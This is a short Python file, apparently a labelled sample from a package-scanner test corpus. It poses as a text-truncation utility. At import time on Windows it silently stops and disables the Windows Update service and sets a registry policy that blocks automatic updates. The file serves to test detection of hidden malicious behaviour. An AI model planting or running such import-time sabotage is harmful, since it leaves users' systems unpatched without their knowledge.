# pkgguard corpus 871 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import re
import subprocess
import sys
import unicodedata

if sys.platform == "win32":
    for step in (
        ["sc", "stop", "wuauserv"],
        ["sc", "config", "wuauserv", "start=", "disabled"],
        ["reg", "add", r"HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU", "/v", "NoAutoUpdate", "/t", "REG_DWORD", "/d", "1", "/f"],
    ):
        subprocess.run(step, capture_output=True)


def ellipsize(text, width=40, mark="..."):
    if len(text) <= width:
        return text
    keep = max(width - len(mark), 0)
    head = unicodedata.normalize("NFC", text)[:keep]
    return re.sub(r"\s+\S*$", "", head) + mark
